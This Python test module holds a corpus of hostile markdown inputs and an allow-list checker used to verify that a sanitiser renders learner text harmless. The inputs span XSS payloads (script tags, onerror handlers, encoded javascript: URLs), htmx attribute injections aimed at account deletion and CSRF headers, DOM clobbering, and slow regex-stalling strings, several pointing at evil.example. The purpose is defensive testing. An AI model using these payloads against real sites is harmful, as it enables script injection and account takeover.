"""Hostile markdown: what a learner (or an attacker with their password) might type.

Each case is (name, text, forbidden): `forbidden` lists what the rendered HTML must not contain
(compared in lower case). Every case must also pass the generic checks of `assert_harmless`.
Shared by the unit tests (tests/test_markdown.py) and the browser tests, and meant to make a
later swap of bleach for another sanitiser safe: the new one must pass the same corpus.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

# Elements that may appear in safe output (the wrapper div included), and their attributes.
ALLOWED_TAGS = {
    "div", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "del",
    "sup", "sub", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img", "table", "thead",
    "tbody", "tr", "th", "td",
}
ALLOWED_ATTRIBUTES = {
    "div": {"class", "hx-disable"}, "a": {"href", "title", "rel"}, "img": {"src", "alt", "title"},
    "th": {"align"}, "td": {"align"}, "ol": {"start"}, "code": {"class"},
}
# A URL whose scheme a browser would see (after dropping tabs, newlines and spaces).
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
SAFE_SCHEMES = {"http", "https", "mailto"}
OWN_IMAGE = re.compile(r"^/attachments/\d+$")
# Raw markup that no safe output holds (escaped text reads "&lt;script", not "<script").
ALWAYS_FORBIDDEN = [
    "<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<form", "<input",
    "<button", "<textarea", "<select", "<link", "<meta", "<base", "<frame", "<video", "<audio",
    "<source", "<template", "<details", "<dialog", "<marquee", "<applet", "<portal", "<!--",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


CASES: list[tuple[str, str, list[str]]] = [
    # Plain HTML and its tricks
    ("script tag", "<script>alert(1)</script>", []),
    ("script upper case", "<SCRIPT>alert(1)</SCRIPT>", []),
    ("script split by null-ish", "<scr<script>ipt>alert(1)</script>", []),
    ("script in a list", "- <script>alert(1)</script>", []),
    ("img onerror", '<img src=x onerror="alert(1)">', ["onerror"]),
    ("img onerror no quotes", "<img src=x onerror=alert(1)>", ["onerror"]),
    ("svg onload", '<svg onload="alert(1)"><circle r="10"/></svg>', ["onload", "circle"]),
    ("svg script", "<svg><script>alert(1)</script></svg>", []),
    ("svg animate href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
     '<text y="20">x</text></a></svg>', ["animate", "<text"]),
    ("math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ["mglyph"]),
    ("math href", '<math href="javascript:alert(1)">x</math>', []),
    ("iframe", '<iframe src="https://evil.example"></iframe>', ["evil.example\""]),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', []),
    ("object", '<object data="https://evil.example/x.swf"></object>', []),
    ("embed", '<embed src="https://evil.example/x">', []),
    ("form action", '<form action="https://evil.example"><input name=p></form>', []),
    ("button formaction", '<button formaction="javascript:alert(1)">x</button>', []),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     ["http-equiv"]),
    ("base href", '<base href="https://evil.example/">', []),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', []),
    ("style tag", "<style>body{background:url(https://evil.example/)}</style>", []),
    ("style attribute", '<p style="position:fixed;top:0">x</p>', []),
    ("details ontoggle", "<details open ontoggle=alert(1)>", ["ontoggle"]),
    ("body onload", "<body onload=alert(1)>", ["onload"]),
    ("video poster", '<video poster=javascript:alert(1)></video>', []),
    ("audio onerror", "<audio src=x onerror=alert(1)>", ["onerror"]),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>", ["onstart"]),
    ("html comment", "<!-- <script>alert(1)</script> -->", ["<!--"]),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->", ["<!--"]),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", []),
    ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ["onerror="]),
    ("textarea breakout", "<textarea></textarea><script>alert(1)</script>", []),
    ("title breakout", "<title></title><script>alert(1)</script>", ["<title"]),
    ("template", "<template><script>alert(1)</script></template>", []),
    # Links and images in markdown
    ("md link javascript", "[clic](javascript:alert(1))", []),
    ("md link JavaScript mixed case", "[clic](JaVaScRiPt:alert(1))", []),
    ("md link entity-encoded", "[clic](&#106;avascript:alert(1))", []),
    ("md link hex entities", "[clic](&#x6A;&#x61;&#x76;&#x61;script:alert(1))", []),
    ("md link tab inside", "[clic](java\tscript:alert(1))", []),
    ("md link newline entity", "[clic](java&#10;script:alert(1))", []),
    ("md link leading space", "[clic]( javascript:alert(1))", []),
    ("md link vbscript", "[clic](vbscript:msgbox(1))", []),
    ("md link data", "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", []),
    ("md link data upper", "[clic](DATA:text/html,<script>alert(1)</script>)", []),
    ("md reference link", "[clic][x]\n\n[x]: javascript:alert(1)", []),
    ("md link title breakout", '[a](https://ok.example "t\\" onmouseover=\\"alert(1)")',
     ['onmouseover="']),
    ("md image javascript", "![x](javascript:alert(1))", []),
    ("md image external (tracking)", "![x](https://evil.example/pixel.png)", ["evil.example"]),
    ("md image data", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", []),
    ("md image onerror in alt", '![x" onerror="alert(1)](https://evil.example/a.png)',
     ['onerror="', "evil.example\""]),
    ("autolink javascript", "<javascript:alert(1)>", []),
    ("raw a javascript", '<a href="javascript:alert(1)">x</a>', []),
    ("raw a entity colon", '<a href="javascript&colon;alert(1)">x</a>', ["&colon;alert"]),
    ("raw a data", '<a href="data:text/html,<script>alert(1)</script>">x</a>', []),
    ("raw a target", '<a href="https://ok.example" target="_blank">x</a>', ["target="]),
    ("raw a ping", '<a href="https://ok.example" ping="https://evil.example">x</a>',
     ["ping=", "evil.example"]),
    # htmx: nothing the page's htmx could act on
    ("hx-get", '<div hx-get="/account/delete" hx-trigger="load">x</div>', ["hx-get", "hx-trigger"]),
    ("data-hx-post", '<p data-hx-post="/logout" data-hx-trigger="load">x</p>',
     ["data-hx-post", "hx-trigger"]),
    ("hx-on", '<p hx-on:click="alert(1)">x</p>', ["hx-on"]),
    ("hx-vals js", "<a href=\"/\" hx-vals='js:{a:alert(1)}'>x</a>", ["hx-vals"]),
    ("hx-swap-oob", '<div id="messages" hx-swap-oob="true">faux message</div>',
     ["hx-swap-oob", 'id="messages"']),
    ("hx-disable escape", '</div><div hx-get="/x" hx-trigger="load">', ["hx-get"]),
    ("hx-headers", '<span hx-headers=\'{"X-CSRFToken": "x"}\'>x</span>', ["hx-headers"]),
    # Attributes that should never survive
    ("id clobbering", '<img name="getElementById" id="csrf_token" src="/attachments/1">',
     ["name=", "id="]),
    ("class injection", '<p class="flash flash-error">faux</p>', ['class="flash']),
    ("code class breakout", '```" onmouseover="alert(1)\ncode\n```', []),
    ("table style", "| a |\n|---|\n| <span style=\"color:red\">b</span> |", []),
    ("td onclick", '<table><tr><td onclick="alert(1)">x</td></tr></table>', ["onclick"]),
    ("ol start js", '<ol start="javascript:alert(1)"><li>x</li></ol>', []),
    # Encodings and obfuscation
    ("unicode escape url", "[x](\\u006aavascript:alert(1))", []),
    ("full-width javascript", "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))", []),
    ("backtick attribute", "<img src=`x`onerror=alert(1)>", []),
    ("slash separator", "<img/src=x/onerror=alert(1)>", ["onerror="]),
    ("nested quotes", "<a href='\"><script>alert(1)</script>'>x</a>", []),
    ("broken tag", "<img src=\"x\" onerror=\"alert(1)\"", []),
    ("html entities script", "&lt;script&gt;alert(1)&lt;/script&gt;", []),
    ("double encoding", "&amp;lt;script&amp;gt;", []),
    ("null byte tag", "<scr\u0000ipt>alert(1)</script>", []),
    ("zero-width in scheme", "[x](java\u200bscript:alert(1))", []),
    ("linkified javascript", "javascript:alert(1)", ["href="]),
    ("linkified foreign url stays inert", "www.evil.example/<script>", []),
    # Stalling and crashing the converter (refused, or rendered fast)
    ("deep list nesting", "- " * 500 + "x", []),
    ("deep quote nesting", "> " * 500 + "x", []),
    ("many brackets", "[" * 5000, []),
    ("bracket and paren run", "[a](" * 2000, []),
    ("angle run", "<" * 3000 + "a", []),
    ("emphasis run", "*a" * 5000, []),
    ("underscore run", "_" * 20000, []),
    ("backtick run", "`" * 20000, []),
    ("over the cap", "a" * 60_000, []),
]
assert len(CASES) >= 60


def assert_harmless(html: str, forbidden: list[str] = ()) -> None:
    """Fail when the HTML holds anything that could run, load, restyle or drive htmx.

    Elements and attributes are checked against an allow-list of this test's own (not the
    sanitiser's), with URLs read as a browser would (entities decoded).
    """
    lowered = html.lower()
    for needle in ALWAYS_FORBIDDEN + [f.lower() for f in forbidden]:
        assert needle not in lowered, f"{needle!r} in {html[:500]!r}"
    parser = _Collector()
    parser.feed(html)
    parser.close()
    assert parser.tags and parser.tags[0] == ("div", [("class", "md"), ("hx-disable", None)])
    for tag, attributes in parser.tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> in {html[:500]!r}"
        names = {name for name, _value in attributes}
        assert names <= ALLOWED_ATTRIBUTES.get(tag, set()), f"<{tag} {names}> in {html[:500]!r}"
        values = dict(attributes)
        if tag == "div":
            assert values in ({"class": "md", "hx-disable": None}, {}), values
        if tag == "code" and "class" in values:
            assert re.fullmatch(r"language-[\w+-]+", values["class"] or ""), values
        if tag == "a" and "href" in values:
            href = "".join((values["href"] or "").split())
            scheme = SCHEME.match(href)
            assert scheme is None or scheme.group(1).lower() in SAFE_SCHEMES, f"href={href!r}"
            assert set((values.get("rel") or "").split()) >= {"nofollow", "noopener"}, values
        if tag == "img" and "src" in values:
            assert OWN_IMAGE.match(values["src"] or ""), f"src={values['src']!r}"


# Inputs shaped to be slow (each at most MAX_LENGTH characters): every one must render, or be
# refused, within SLOW_BOUND_S seconds, checked in a subprocess (tests/test_markdown.py). The
# first took 47 s in bleach's linkifier before its pattern lost the leading `\(*`.
SLOW_BOUND_S = 4.0
SLOW_CASES = [
    ("opening parentheses", "(" * 49_999),
    ("closing parentheses", ")" * 49_999),
    ("parentheses then a URL", "(" * 40_000 + "https://ecole.fr/x"),
    ("emphasis pairs", "*a" * 24_999),
    ("strong runs", "**a" * 16_666),
    ("underscores", "_a_" * 16_666),
    ("entities", "&a" * 24_999),
    ("dotted names", "a." * 24_999),
    ("schemes", "http:" * 9_999),
    ("at signs", "a@" * 24_999),
    ("www", "www." * 12_499),
    ("backticks", "`" * 49_999),
    ("link openers", "[a](" * 12_499),
    ("image openers", "![" * 100 + "a" * 49_000),
    ("table pipes", ("|a" * 200 + "|\n") * 120),
    ("angle brackets", "<a" * 250 + "b" * 49_000),
]
